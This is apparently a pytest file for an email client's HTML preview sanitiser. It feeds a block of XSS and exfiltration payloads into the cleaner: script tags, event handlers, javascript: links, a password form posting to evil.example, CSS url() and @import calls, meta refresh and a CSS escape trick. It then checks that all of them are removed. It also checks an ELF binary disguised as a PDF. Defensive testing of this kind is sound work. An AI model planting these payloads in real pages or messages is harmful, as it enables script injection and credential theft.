"""The preview's HTML cleaning: nothing that runs, loads or submits survives nh3 and our filter."""

import re

import pytest

from cleanmail import mime
from cleanmail.web import preview
from tests.messages import ELF, message

HOSTILE = """
<p onclick="alert(1)">Hello <b>friend</b></p>
<script>alert('script')</script>
<img src="x" onerror="alert('img')">
<img src="https://tracker.example/pixel.gif" alt="pixel">
<img src="cid:logo@example" alt="logo">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">
<a href="javascript:alert('link')">click</a>
<a href="JaVaScRiPt:alert(2)">click2</a>
<a href="data:text/html,<script>alert(3)</script>">data link</a>
<a href="/messages/1/delete">relative</a>
<a href="https://example.com/offer" onmouseover="alert(4)">offer</a>
<iframe src="https://evil.example/"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<style>@import url(https://evil.example/x.css); body { background: url(//evil.example/b) }</style>
<div style="background-image: url('https://evil.example/bg.png'); color: red">styled</div>
<span style="color: blue; behavior: url(x.htc); width: expression(alert(5))">css</span>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
<svg><script>alert(6)</script></svg>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<table background="https://evil.example/t.png"><tr><td>cell</td></tr></table>
"""


def test_scripts_handlers_and_active_content_are_removed():
    cleaned = preview.clean_html(HOSTILE).lower()
    for bad in ("<script", "onerror", "onclick", "onmouseover", "javascript:", "<iframe", "<form",
                "<input", "<button", "<style", "@import", "<object", "<embed", "<svg", "<meta",
                "<base", "expression", "behavior", "alert"):  # fmt: skip
        assert bad not in cleaned, bad
    assert "<b>friend</b>" in cleaned
    assert "cell" in cleaned


def test_no_url_survives_except_safe_links_and_inline_images():
    cleaned = preview.clean_html(HOSTILE)
    urls = re.findall(r'(?:href|src)="([^"]*)"', cleaned)
    assert urls == ["data:image/png;base64,iVBORw0KGgo=", "https://example.com/offer"]
    assert "evil.example" not in cleaned
    assert "tracker.example" not in cleaned
    assert 'alt="pixel"' in cleaned  # the image stays as its text


def test_links_open_in_a_new_tab_without_referrer():
    cleaned = preview.clean_html('<a href="https://example.com/">x</a>')
    assert cleaned == (
        '<a href="https://example.com/" target="_blank" rel="noopener noreferrer">x</a>'
    )


def test_styles_keep_formatting_but_never_load():
    cleaned = preview.clean_html(
        '<p style="color: red; font-weight: bold; background: url(https://e.example/x); '
        'background-color: url(https://e.example/y); position: fixed; margin: 0 auto">x</p>'
    )
    assert "color:red" in cleaned.replace(" ", "")
    assert "font-weight:bold" in cleaned.replace(" ", "")
    assert "url" not in cleaned
    assert "position" not in cleaned


def test_escaped_css_cannot_smuggle_a_url():
    cleaned = preview.clean_html('<p style="background-color: u\\72l(https://e.example/x)">x</p>')
    assert "e.example" not in cleaned


def test_remote_images_load_only_when_asked():
    html = '<img src="https://images.example/a.png" alt="a"><img src="//images.example/b.png">'
    assert preview.has_remote_images(html)
    assert "images.example" not in preview.clean_html(html)
    shown = preview.clean_html(html, images=True)
    assert 'src="https://images.example/a.png"' in shown
    assert "//images.example/b.png" not in shown  # protocol-relative is relative: denied
    assert not preview.has_remote_images('<img src="cid:x"><p>https://x.example</p>')


def test_policies():
    assert "script-src" not in preview.CSP
    assert preview.CSP.startswith("default-src 'none'; img-src data:; style-src 'unsafe-inline'")
    assert "frame-ancestors 'self'" in preview.CSP
    assert "img-src https: http: data:" in preview.CSP_IMAGES
    assert "allow-scripts" not in preview.SANDBOX
    assert "allow-same-origin" not in preview.SANDBOX


def test_document_wraps_the_cleaned_html():
    doc = preview.document("<p>Hei</p><script>alert(1)</script>")
    assert doc.startswith("<!doctype html>")
    assert "<p>Hei</p>" in doc
    assert "alert" not in doc


def test_cleaning_is_bounded():
    huge = "<p>" + "a" * (3 * preview.MAX_HTML) + "</p>"
    assert len(preview.clean_html(huge)) <= preview.MAX_HTML + 10


def test_attachments_are_described_by_content():
    raw = message(attachments=[("invoice.pdf", ELF, "application/pdf")])
    (item,) = preview.attachment_list(mime.parse(raw))
    assert item.name == "invoice.pdf"
    assert item.declared == "application/pdf"
    assert "ELF" in item.detected
    assert item.size == len(ELF)


@pytest.mark.parametrize(
    ("size", "shown"),
    [(0, "0 B"), (999, "999 B"), (1500, "1.5 kB"), (25_000, "25 kB"), (3_400_000, "3.4 MB")],
)
def test_human_size(app_context, size, shown):
    assert preview.human_size(size) == shown


@pytest.fixture
def app_context():
    from flask import Flask
    from flask_babel import Babel

    app = Flask(__name__)
    Babel(app, locale_selector=lambda: "en")
    with app.test_request_context():
        yield


def test_sender_display():
    assert preview.sender('"Kari Nordmann" <kari@example.com>', "") == (
        "Kari Nordmann",
        "kari@example.com",
    )
    assert preview.sender("", "bounce@example.com") == ("", "bounce@example.com")
    assert preview.sender("garbage", "env@example.com") == ("garbage", "env@example.com")
